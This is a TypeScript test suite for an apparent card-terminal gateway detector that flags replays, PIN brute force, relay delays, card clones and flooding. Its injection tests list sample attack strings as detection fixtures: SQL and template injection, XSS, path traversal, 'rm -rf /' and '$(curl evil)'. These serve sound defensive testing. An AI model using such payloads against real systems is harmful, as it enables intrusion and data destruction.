import { describe, expect, it } from 'vitest'
import type { CardTiming, GatewayEvent } from '../../../gateway/findings/event.ts'
import type { Finding } from '../../../gateway/findings/finding.ts'
import { createJudge } from '../../../gateway/findings/judge.ts'
import { DEFAULT_POLICY, parsePolicy } from '../../../gateway/findings/policy.ts'
import { distanceKm } from '../../../gateway/findings/rules/clone.ts'
import { classifyText } from '../../../gateway/findings/rules/injection.ts'

const NOON = Date.UTC(2026, 0, 5, 12)
const here = { terminal: 'aaaaaaaaaaaaaaaa', site: 'Main street' }
const there = { terminal: 'bbbbbbbbbbbbbbbb', site: 'Harbour' }

function judgeAll(events: readonly GatewayEvent[], policy = DEFAULT_POLICY): readonly Finding[] {
  const judge = createJudge(policy)
  return events.flatMap((event) => judge.observe(event))
}

function logins(timings: readonly CardTiming[], card = 'card'): readonly GatewayEvent[] {
  return timings.map((timing, index) => ({
    kind: 'login',
    at: NOON + index * 3_600_000,
    ...here,
    card,
    begunAt: NOON + index * 3_600_000 - 4_000,
    timing,
  }))
}

describe('replay', () => {
  it('is found at the first replayed message, at the perception layer', () => {
    const found = judgeAll([{ kind: 'message', at: NOON, ...here, verdict: 'replay' }])
    expect(found).toMatchObject([{ kind: 'replay', layer: 'perception', terminal: here.terminal, response: 'notify' }])
  })

  it('is not seen in accepted messages and names no card', () => {
    expect(judgeAll([{ kind: 'message', at: NOON, ...here, verdict: 'accepted' }])).toEqual([])
  })

  it('lets a few forged messages pass and reports a burst once', () => {
    const forged = (n: number): GatewayEvent[] =>
      Array.from({ length: n }, (_, i) => ({ kind: 'message', at: NOON + i, ...here, verdict: 'forged' }))
    expect(judgeAll(forged(DEFAULT_POLICY.replay.forged.events))).toEqual([])
    expect(judgeAll(forged(50))).toHaveLength(1)
  })
})

describe('brute force', () => {
  const wrong = (n: number, proven: boolean, stepMs: number, card = 'card'): GatewayEvent[] =>
    Array.from({ length: n }, (_, i) => ({
      kind: 'wrong-pin',
      at: NOON + i * stepMs,
      ...(i % 2 === 0 ? here : there),
      card,
      proven,
      retriesLeft: 2,
    }))

  it('of a card that is present is found across terminals and answered by a block', () => {
    const found = judgeAll(wrong(9, true, 60_000))
    expect(found).toMatchObject([{ kind: 'brute-force-pin', layer: 'application', card: 'card', response: 'block-card' }])
  })

  it('of a card whose presence is not proven is never held against the card', () => {
    const found = judgeAll(wrong(200, false, 1_000))
    expect(found.length).toBeGreaterThan(0)
    for (const finding of found) {
      expect(finding.card).toBeUndefined()
      expect(finding.response).not.toBe('block-card')
    }
  })

  it('is not seen in a clumsy holder who gets it right in the end', () => {
    const day = Array.from({ length: 40 }, (_, i): GatewayEvent[] => {
      const at = NOON + i * 600_000
      const wrongOne: GatewayEvent = { kind: 'wrong-pin', at, ...here, card: 'card', proven: true, retriesLeft: 2 }
      return [wrongOne, { kind: 'login', at: at + 8_000, begunAt: at - 4_000, ...here, card: 'card' }]
    })
    expect(judgeAll(day.flat())).toEqual([])
  })

  it("is seen between the holder's own logins", () => {
    const day = Array.from({ length: 10 }, (_, i): GatewayEvent[] => {
      const at = NOON + i * 1_800_000
      const guess: GatewayEvent = { kind: 'wrong-pin', at, ...here, card: 'card', proven: true, retriesLeft: 2 }
      const login: GatewayEvent = { kind: 'login', at: at + 900_000, begunAt: at + 895_000, ...here, card: 'card' }
      return [guess, { ...guess, at: at + 5_000 }, login]
    })
    expect(judgeAll(day.flat())).toMatchObject([{ kind: 'brute-force-pin', card: 'card', response: 'block-card' }])
  })

  it('is not seen in three typing errors a day for a month', () => {
    const month = Array.from(
      { length: 90 },
      (_, i): GatewayEvent => ({
        kind: 'wrong-pin',
        at: NOON + i * 8 * 3_600_000,
        ...here,
        card: 'card',
        proven: true,
        retriesLeft: 2,
      }),
    )
    expect(judgeAll(month)).toEqual([])
  })

  it('of handshakes is found by the name that they use, and that terminal does not suffer for it', () => {
    const handshakes = (n: number, outcome: 'failed' | 'abandoned'): GatewayEvent[] =>
      Array.from({ length: n }, (_, i) => ({ kind: 'handshake', at: NOON + i * 100, ...here, outcome }))
    expect(judgeAll(handshakes(6, 'failed'))).toMatchObject([
      { kind: 'brute-force-handshake', layer: 'perception', own: false, response: 'notify' },
    ])
    expect(judgeAll(handshakes(30, 'abandoned'))).toEqual([])
    expect(judgeAll(handshakes(59, 'abandoned'))).toHaveLength(1)
  })

  it('of handshakes under a new name each time is found as well', () => {
    const failed = Array.from(
      { length: 700 },
      (_, i): GatewayEvent => ({ kind: 'handshake', at: NOON + i, terminal: `${i}`, site: '', outcome: 'failed' }),
    )
    expect(judgeAll(failed)).toMatchObject([
      { kind: 'brute-force-handshake', response: 'notify', evidence: { how: 'many names' } },
    ])
  })

  it('of logins is held against the terminal that makes them', () => {
    const failed = Array.from({ length: 6 }, (_, i): GatewayEvent => ({ kind: 'login-failed', at: NOON + i, ...here }))
    expect(judgeAll(failed)).toMatchObject([
      { kind: 'brute-force-handshake', layer: 'application', own: true, response: 'slow-down' },
    ])
  })
})

describe('injection', () => {
  it.each([
    ['sql', "' OR '1'='1"],
    ['sql', "x'; DROP TABLE cards; --"],
    ['sql', "1' UNION SELECT puk FROM cards"],
    ['sql', "admin'--"],
    ['sql', "' AND 1=pg_sleep(5)"],
    ['template', '{{constructor.constructor("x")()}}'],
    ['template', `${'$'}{7*7}`],
    ['template', '<%= 7 * 7 %>'],
    ['markup', '<script>alert(1)</script>'],
    ['markup', '"><img src=x onerror=alert(1)>'],
    ['topic', 'tessera/1/gateway/in'],
    ['topic', 'tessera/+/#'],
    ['topic', '$share/gateway/x'],
    ['path', '../../etc/passwd'],
    ['command', 'x; rm -rf /'],
    ['command', '$(curl evil)'],
    ['directory', '*)(|(cn=*'],
    ['operator', '{"$ne": null}'],
    ['control', 'Anna\u0000'],
    ['control', 'Anna\u202e'],
    ['format', '%n%n%s'],
  ])('of the class %s is recognised in %j', (_, value) => {
    expect(classifyText(value)).toBeDefined()
  })

  it.each([
    "O'Brien",
    "D'Angelo",
    'Smith; Jones & Sons',
    'C++ Ltd.',
    'Anne-Marie',
    'Müller-Lüdenscheidt',
    'José María',
    'क्षत्रिय',
    'می‌خواهم',
    'Al-Said (jr.)',
    'Select Bank',
    'Union Street 5',
    'A/B Testing 100%',
    'Nr. 12#3',
    'Oder-Spree',
    'and Or',
    'X Æ A-12',
    'update pending',
    '20% off',
    'a/in-house',
    "L'Or",
    "T'pau or Not",
  ])('is not seen in the name %j', (value) => {
    expect(classifyText(value)).toBeUndefined()
  })

  it('costs no more time when the text is made to cost time', () => {
    const worst = ["' or", '(select', '{{', 'select ', '%d', ';', "'", '<', '$(', '/*', 'union select ', '../'].flatMap(
      (piece) => [piece.repeat(512), `${piece}${' '.repeat(508)}`, `${`${piece} `.repeat(60)}${' '.repeat(200)}`],
    )
    const took = (text: string): number => {
      const begin = performance.now()
      classifyText(text)
      return performance.now() - begin
    }
    // The least of several: what other programs of the machine take away is not the text's doing.
    for (const text of worst) expect(Math.min(...Array.from({ length: 20 }, () => took(text))), text).toBeLessThan(5)
  })

  it('is a body outside the schema, and names the operation', () => {
    const found = judgeAll([{ kind: 'schema', at: NOON, ...here, operation: 'login.begin' }])
    expect(found).toMatchObject([{ kind: 'injection', evidence: { class: 'schema', operation: 'login.begin' } }])
  })
})

describe('delay', () => {
  const steady = (n: number, verifyMs: number, signMs: number): CardTiming[] =>
    Array.from({ length: n }, (_, i) => ({ verifyMs: verifyMs + (i % 5) * 0.4, signMs: signMs + (i % 7) * 0.5 }))

  it('of 30 ms in both answers stands out against the card itself', () => {
    const found = judgeAll(logins([...steady(20, 25, 90), { verifyMs: 56, signMs: 121 }]))
    expect(found).toMatchObject([{ kind: 'delay', layer: 'perception', card: 'card', response: 'end-session' }])
  })

  it('is not seen in a card that is always slow', () => {
    expect(judgeAll(logins(steady(60, 300, 900)))).toEqual([])
  })

  it('is not seen when only one of the two answers is late, as on a busy computer', () => {
    expect(judgeAll(logins([...steady(20, 25, 90), { verifyMs: 25, signMs: 190 }, { verifyMs: 125, signMs: 90 }]))).toEqual([])
  })

  it('of a relay that stays is reported each time: it cannot teach the card to be slow', () => {
    const relayed = Array.from({ length: 5 }, () => ({ verifyMs: 60, signMs: 125 }))
    expect(judgeAll(logins([...steady(20, 25, 90), ...relayed]))).toHaveLength(5)
  })

  describe('at a reader', () => {
    const at = { terminal: 'cccccccccccccccc', site: 'Market' }
    const login = (card: string, timing: CardTiming, place = here): GatewayEvent => ({
      kind: 'login',
      at: NOON,
      begunAt: NOON - 4_000,
      ...place,
      card,
      timing,
    })
    /** A fleet of cards with a history at `here`, and the judge that knows them. */
    function fleet(cards: number) {
      const judge = createJudge(DEFAULT_POLICY)
      for (let visit = 0; visit < 10; visit += 1)
        for (let card = 0; card < cards; card += 1)
          for (const timing of steady(1, 25 + visit / 10, 90)) judge.observe(login(`card ${card}`, timing))
      const findings = (event: GatewayEvent) => judge.observe(event).filter(({ kind }) => kind === 'delay')
      return { judge, count: (events: GatewayEvent[]) => events.flatMap(findings).length }
    }

    it('that is slow, is not seen in cards that come from a fast one', () => {
      const { count } = fleet(40)
      expect(count(Array.from({ length: 40 }, (_, i) => login(`card ${i}`, { verifyMs: 65, signMs: 130 }, at)))).toBe(0)
    })

    it('that is slow, is seen where a card is relayed to it: the others tell what the reader adds', () => {
      const { count } = fleet(40)
      count(Array.from({ length: 20 }, (_, i) => login(`card ${i}`, { verifyMs: 65, signMs: 130 }, at)))
      expect(count([login('card 30', { verifyMs: 95, signMs: 160 }, at)])).toBe(1)
    })

    it('that has become slow, is forgiven after a few cards', () => {
      const { count } = fleet(40)
      const slower = (from: number, to: number) =>
        Array.from({ length: to - from }, (_, i) => login(`card ${from + i}`, { verifyMs: 65, signMs: 130 }))
      expect(count(slower(0, 8))).toBeGreaterThan(0)
      expect(count(slower(8, 40))).toBe(0)
    })

    it('is not forgiven for one card that is relayed to it again and again', () => {
      const { count } = fleet(40)
      const relayed = Array.from({ length: 60 }, () => login('card 3', { verifyMs: 65, signMs: 130 }))
      expect(count(relayed)).toBe(60)
    })

    it('under another name is another reader of the same terminal', () => {
      const { count } = fleet(1)
      expect(count([login('card 0', { verifyMs: 65, signMs: 130, reader: 'new' })])).toBe(0)
      expect(count([login('card 0', { verifyMs: 65, signMs: 130 })])).toBe(1)
    })
  })

  it('must be in the empty VERIFY as well, where the terminal tells it', () => {
    const with3 = (n: number): CardTiming[] => steady(n, 25, 90).map((timing) => ({ ...timing, emptyMs: 3 }))
    expect(judgeAll(logins([...with3(20), { verifyMs: 56, signMs: 121, emptyMs: 3 }]))).toEqual([])
    expect(judgeAll(logins([...with3(20), { verifyMs: 56, signMs: 121, emptyMs: 34 }]))).toHaveLength(1)
  })

  it('is found by the other two where the PIN was entered on the reader, and by one alone never', () => {
    const with3 = steady(20, 25, 90).map((timing) => ({ ...timing, emptyMs: 3 }))
    const found = judgeAll(logins([...with3, { signMs: 121, emptyMs: 34 }]))
    expect(found).toMatchObject([{ kind: 'delay', evidence: { exchanges: 2 } }])
    expect(judgeAll(logins([...with3, { signMs: 91, emptyMs: 3 }, { signMs: 121, emptyMs: 3 }]))).toEqual([])
    expect(judgeAll(logins([...with3, { signMs: 121 }]))).toEqual([])
    // Two answers are late by chance more often than three: they must be later.
    expect(judgeAll(logins([...with3, { signMs: 116, emptyMs: 28 }]))).toEqual([])
    expect(judgeAll(logins([...with3, { verifyMs: 51, signMs: 116, emptyMs: 28 }]))).toHaveLength(1)
  })

  it('of a card that only ever saw PINs on the reader is found too', () => {
    const onPad = steady(20, 25, 90).map(({ signMs }) => ({ signMs, emptyMs: 3 }))
    expect(judgeAll(logins([...onPad, { signMs: 121, emptyMs: 34 }]))).toHaveLength(1)
  })
})

describe('clone', () => {
  const berlin = { latitude: 52.52, longitude: 13.405 }
  const paris = { latitude: 48.8566, longitude: 2.3522 }
  const withSites = (sites: Record<string, unknown>) => {
    const parsed = parsePolicy({ clone: { sites } })
    if (!parsed.ok) throw new Error(parsed.problems.join())
    return parsed.policy
  }
  /** Each login takes 4 s, the second one ends at NOON. */
  const twoLogins = (apartMs: number, from = there, to = here): GatewayEvent => ({
    kind: 'login',
    at: NOON,
    begunAt: NOON - 4_000,
    ...to,
    card: 'card',
    previous: { ...from, at: NOON - apartMs, begunAt: NOON - apartMs - 4_000 },
  })

  it('is a card that travels faster than anything between sites whose coordinates are known', () => {
    expect(distanceKm(berlin, paris)).toBeGreaterThan(870)
    expect(distanceKm(berlin, paris)).toBeLessThan(885)
    const policy = withSites({ 'Main street': berlin, Harbour: paris })
    expect(judgeAll([twoLogins(30 * 60_000)], policy)).toMatchObject([
      { kind: 'clone', card: 'card', severity: 'critical', response: 'block-card', evidence: { how: 'travel' } },
    ])
    expect(judgeAll([twoLogins(90 * 60_000)], policy)).toEqual([])
  })

  it('is, between sites of unknown places, only what no hand can do', () => {
    expect(judgeAll([twoLogins(500)])).toHaveLength(1)
    expect(judgeAll([twoLogins(10_000)])).toEqual([])
  })

  it('is not a card that moves between the desks of one house, nor one that is used again at the same terminal', () => {
    const desk = (n: number) => ({ terminal: String(n).repeat(16), site: `Main street, desk ${n}` })
    expect(judgeAll([twoLogins(300, desk(1), desk(2)), twoLogins(100, here, here)])).toEqual([])
  })

  it('is not a terminal that travels itself', () => {
    expect(judgeAll([twoLogins(500)], withSites({ Harbour: { mobile: true }, 'Main street': berlin }))).toEqual([])
  })

  it('cannot be made up by a terminal that hands on a signature late', () => {
    const policy = withSites({ 'Main street': berlin, Harbour: paris })
    // At the bad terminal the card signed two hours ago; it is sent a second after the honest login elsewhere.
    const late: GatewayEvent = {
      kind: 'login',
      at: NOON,
      begunAt: NOON - 2 * 3_600_000,
      ...here,
      card: 'card',
      previous: { ...there, at: NOON - 1_000, begunAt: NOON - 5_000 },
    }
    expect(judgeAll([late], policy)).toEqual([])
  })

  it('is suspected, and no more, where another terminal says that it holds the card', () => {
    const elsewhere = { ...there, at: NOON - 60_000, begunAt: NOON - 64_000 }
    const found = judgeAll([{ kind: 'login', at: NOON, begunAt: NOON - 4_000, ...here, card: 'card', elsewhere }])
    expect(found).toMatchObject([{ kind: 'clone', card: 'card', severity: 'high', response: 'notify' }])
  })
})

describe('flooding', () => {
  it('by a terminal is found once for each burst', () => {
    const burst = Array.from(
      { length: 3_000 },
      (_, i): GatewayEvent => ({ kind: 'message', at: NOON + i, ...here, verdict: 'accepted' }),
    )
    expect(judgeAll(burst)).toMatchObject([{ kind: 'flooding', layer: 'perception', response: 'slow-down' }])
  })

  it("in a terminal's name is found and not held against it", () => {
    const burst = (verdict: 'malformed' | 'unknown-connection') =>
      Array.from({ length: 3_000 }, (_, i): GatewayEvent => ({ kind: 'message', at: NOON + i, ...here, verdict }))
    for (const verdict of ['malformed', 'unknown-connection'] as const)
      expect(judgeAll(burst(verdict))).toMatchObject([{ kind: 'flooding', own: false, response: 'notify' }])
  })

  it('is not seen in a desk that registers a batch of cards', () => {
    const batch = Array.from(
      { length: 2_000 },
      (_, i): GatewayEvent => ({ kind: 'message', at: NOON + i * 100, ...here, verdict: 'accepted' }),
    )
    expect(judgeAll(batch)).toEqual([])
  })
})

describe('the policy', () => {
  it('has a default for every value', () => {
    expect(parsePolicy({})).toEqual({ ok: true, policy: DEFAULT_POLICY })
  })

  it('names the path of each value that is wrong', () => {
    const parsed = parsePolicy({ delay: { response: 'explode' }, bruteForce: { cardWrongPins: { events: 0, windowMs: 1 } } })
    expect(parsed.ok).toBe(false)
    if (!parsed.ok)
      expect(parsed.problems.map((problem) => problem.split(':')[0]).sort()).toEqual([
        'bruteForce.cardWrongPins.events',
        'delay.response',
      ])
  })

  it('changes what the gateway answers', () => {
    const parsed = parsePolicy({ injection: { response: 'quarantine-terminal' }, delay: { response: 'block-card' } })
    if (!parsed.ok) throw new Error(parsed.problems.join())
    const schema: GatewayEvent = { kind: 'schema', at: NOON, ...here, operation: 'hello' }
    expect(judgeAll([schema], parsed.policy)).toMatchObject([{ response: 'quarantine-terminal' }])
  })

  it('makes no terminal suffer for what was done in its name, and no card that was not there', () => {
    const parsed = parsePolicy({
      replay: { response: 'quarantine-terminal' },
      injection: { response: 'block-card' },
      bruteForce: { terminalResponse: 'block-card' },
    })
    if (!parsed.ok) throw new Error(parsed.problems.join())
    const schema: GatewayEvent = { kind: 'schema', at: NOON, ...here, operation: 'hello' }
    const replay: GatewayEvent = { kind: 'message', at: NOON, ...here, verdict: 'replay' }
    const wrongPins = Array.from(
      { length: 100 },
      (_, i): GatewayEvent => ({ kind: 'wrong-pin', at: NOON + i, ...here, card: 'card', proven: false, retriesLeft: 1 }),
    )
    const found = judgeAll([schema, replay, ...wrongPins], parsed.policy)
    expect(found.map(({ kind, response }) => [kind, response])).toEqual([
      ['injection', 'notify'],
      ['replay', 'notify'],
      ['brute-force-pin', 'notify'],
    ])
  })
})
